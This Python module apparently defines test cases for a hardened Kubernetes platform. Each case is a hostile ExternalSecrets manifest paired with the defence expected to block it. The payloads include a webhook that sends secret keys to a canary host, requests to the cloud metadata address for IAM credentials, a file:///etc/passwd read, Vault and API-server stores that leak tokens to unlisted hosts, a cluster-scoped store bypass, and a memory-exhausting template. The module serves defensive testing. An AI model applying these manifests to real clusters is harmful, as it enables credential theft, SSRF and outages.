"""Attacks by ExternalSecrets: stores that lead elsewhere, that are somebody else's, and templates without end."""

from __future__ import annotations

import json
from typing import Any

from hostile.attack import Attack

HOSTS = "stores ask only hosts that the cluster's configuration lists"
VERSION = "external-secrets.io/v1"


def _store(name: str, provider: dict[str, Any], kind: str = "SecretStore", **spec: Any) -> dict[str, Any]:
    head = {"apiVersion": VERSION, "kind": kind, "metadata": {"name": name}}
    return {**head, "spec": {"provider": provider, **spec}}


def _secret(name: str, kind: str = "SecretStore", **spec: Any) -> dict[str, Any]:
    data = [{"secretKey": "a", "remoteRef": {"key": "x"}}]
    ref = {"name": name, "kind": kind}
    head = {"apiVersion": VERSION, "kind": "ExternalSecret", "metadata": {"name": name}}
    return {**head, "spec": {"secretStoreRef": ref, "data": data, "target": {"name": name}, **spec}}


def stored(name: str, what: str, says: str, *documents: dict[str, Any], stops: str = HOSTS, **more: Any) -> Attack:
    """An attack by an ExternalSecret and its store."""
    files = {"all.yaml": "\n---\n".join(json.dumps(d) for d in documents)}
    return Attack(name, what, stops, files, says=says, place="", stage="plan", **more)


WEBHOOK = {"webhook": {"url": "@CANARY@/{{ .remoteRef.key }}", "result": {"jsonPath": "$.a"}}}
METADATA = {"webhook": {"url": "http://169.254.169.254/latest/meta-data/iam", "result": {"jsonPath": "$"}}}
FILE = {"webhook": {"url": "file:///etc/passwd", "result": {"jsonPath": "$"}}}
TOKEN = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "t"}, "stringData": {"t": "x"}}
VAULT = {"vault": {"server": "@CANARY@", "path": "secret", "auth": {"tokenSecretRef": {"name": "t", "key": "t"}}}}
KUBERNETES = {
    "kubernetes": {
        "server": {"url": "@CANARY@"},
        "remoteNamespace": "kube-system",
        "auth": {"serviceAccount": {"name": "x"}},
    }
}
FAKE = {"fake": {"data": [{"key": "x", "value": "good", "version": ""}]}}
ENDLESS = {
    "template": {
        "engineVersion": "v2",
        "data": {"a": "{{ range until 100000000 }}{{ range until 100000000 }}x{{ end }}{{ end }}"},
    }
}

ATTACKS: list[Attack] = [
    stored("e-webhook", "a store that sends to the attacker's server", "stores may not ask 127.0.0.1", _store("e-webhook", WEBHOOK), _secret("e-webhook"), short=True),
    stored("e-metadata", "a store at the address where a cloud keeps credentials", "stores may not ask 169.254.169.254", _store("e-metadata", METADATA), _secret("e-metadata")),
    stored("e-file", "a store that is a file of the machine", "the store's address is none", _store("e-file", FILE), _secret("e-file")),
    stored("e-vault", "a Vault on a host that is not listed", "stores may not ask 127.0.0.1", TOKEN, _store("e-vault", VAULT), _secret("e-vault")),
    stored("e-kubernetes", "another API server, to which a token would be sent", "stores may not ask this server", _store("e-kubernetes", KUBERNETES), _secret("e-kubernetes")),
    stored("e-other", "a store for the whole cluster", "does not allow the cluster-scoped kind ClusterSecretStore", _store("e-other", FAKE, "ClusterSecretStore"), _secret("e-other", "ClusterSecretStore"), stops="projects are enforced on every object"),
    stored("e-template", "a template without end", "needs more than 512 MB of memory and was stopped", _store("e-template", FAKE), _secret("e-template", target={"name": "e-template", **ENDLESS}), stops="templates run in a worker with limits", slow=True),
]  # fmt: skip
